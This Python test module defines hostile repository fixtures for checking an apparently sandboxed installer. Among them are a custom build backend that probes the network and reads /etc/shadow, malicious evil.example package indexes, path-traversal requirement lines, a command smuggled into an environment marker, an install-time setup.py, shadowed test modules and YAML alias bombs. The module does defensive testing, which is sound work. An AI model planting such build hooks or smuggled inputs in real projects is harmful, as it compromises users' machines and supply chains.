"""Attacks by what a repository declares and by how it is built."""

# ruff: noqa: E501 - files of repositories are written out as they are
from __future__ import annotations

from collections.abc import Callable, Mapping

from demo.story import Story
from tests.hostile.attack import Attack, tree

SUBPROJECT = '[project]\nname = "calc-attack"\nversion = "1"\n'


def project(backend: str, extra: str = "", **more: str) -> Callable[[Story], None]:
    """A good project whose build backend is its own file."""
    text = (
        f'[build-system]\nrequires = ["setuptools"]\nbuild-backend = "mine"\nbackend-path = ["."]\n{SUBPROJECT}{extra}'
    )
    return tree({"pyproject.toml": text, "mine.py": backend, **more})


BACKEND = """
import os, pathlib, socket, subprocess, sys

def build_editable(folder, settings=None, metadata=None):
    ATTACK
    raise SystemExit("held")

build_wheel = build_editable

def get_requires_for_build_editable(settings=None):
    return []
"""

REACH_OUT = """for reach in (lambda: socket.create_connection(("1.1.1.1", 443), 2), lambda: open("/etc/shadow"), lambda: open("/environment/pwned", "w")):
        try:
            reach()
        except OSError:
            continue
        raise SystemExit("WALL BROKEN")"""

REFUSED_LINES = """--index-url https://evil.example/simple
--extra-index-url https://evil.example/simple
--find-links /tmp
--trusted-host evil.example
-e git+https://evil.example/x.git#egg=x
git+ssh://git@evil.example/x.git
evil @ https://evil.example/evil-1.0-py3-none-any.whl
./local.whl
/etc/passwd
file:///etc/passwd
-e /etc
-r /etc/passwd
-r ../../../../etc/shadow
-c https://evil.example/constraints.txt
--config-settings=x
--pre
pytest --global-option="x" --hash=sha256:00
-r requirements.txt
${HOME}
pytest; os_name == "$(touch /tmp/filrouge-was-here)"
"""

REQUIREMENTS: Mapping[str, Attack] = {
    "options, addresses and paths": Attack(
        tree({"requirements.txt": REFUSED_LINES}),
        notes=(
            "environment.refused.index",
            "environment.refused.vcs",
            "environment.refused.url",
            "environment.refused.path",
            "environment.refused.outside",
        ),
    ),
    "indexes and sources of uv": Attack(
        tree(
            {
                "pyproject.toml": SUBPROJECT
                + 'dependencies = ["iniconfig"]\n[tool.uv]\nindex-url = "https://evil.example/simple"\nfind-links = ["/etc"]\n'
                '[[tool.uv.index]]\nurl = "https://evil.example/simple"\ndefault = true\n[tool.uv.sources]\niniconfig = { path = "/etc" }\n',
                "uv.toml": 'index-url = "https://evil.example/simple"\n',
                "pip.conf": "[global]\nindex-url = https://evil.example/simple\n",
                ".pip/pip.conf": "[global]\nindex-url = https://evil.example/simple\n",
                ".env": "UV_INDEX_URL=https://evil.example/simple\n",
                ".netrc": "machine evil.example login x password y\n",
                ".python-version": "/tmp/evil\n",
            }
        ),
        notes=("environment.refused.source",),
    ),
    "a backend of their own that reaches out": Attack(project(BACKEND.replace("ATTACK", REACH_OUT)), printed="held"),
    "a backend that never ends": Attack(
        project(BACKEND.replace("ATTACK", "import time; time.sleep(1000)")), limits={"install_seconds": 3}
    ),
    "setup.py that runs at once": Attack(
        tree(
            {
                "setup.py": "import os, socket, setuptools\nopen('/tmp/filrouge-was-here', 'w')\n"
                "socket.create_connection(('1.1.1.1', 443), 2)\nsetuptools.setup(name='calc-attack')\n"
            }
        )
    ),
    "names of nobody's packages": Attack(
        tree({"requirements.txt": "filrouge-internal-secret-package-1f9c\nfilrouge-internal-other-1f9c==1.0\n"}),
        notes=("environment.no_such_package",),
    ),
    "modules with the names of ours": Attack(
        tree(
            dict.fromkeys(
                ("pytest.py", "coverage.py", "filrouge_reporter.py", "_pytest.py", "measure.py", "drive.py"),
                "import os\nos._exit(0)\n",
            )
        )
    ),
    "sitecustomize": Attack(
        tree(
            dict.fromkeys(
                ("sitecustomize.py", "usercustomize.py"), "open('/tmp/filrouge-was-here', 'w')\nraise SystemExit(0)\n"
            )
        )
    ),
    "declarations as large as a disk": Attack(
        tree(
            {
                "requirements.txt": b"pytest\n" * 400_000,
                "Pipfile": b"[" * 100_000,
                "environment.yml": b"a: &a [x]\n" + b"b: [*a, *a]\n" * 1000,
            }
        )
    ),
    "aliases that multiply": Attack(
        tree(
            {
                "environment.yml": "a0: &a0 [x,x,x,x,x,x,x,x,x]\n"
                + "".join(f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 10))
                + "dependencies: *a9\n"
            }
        )
    ),
}
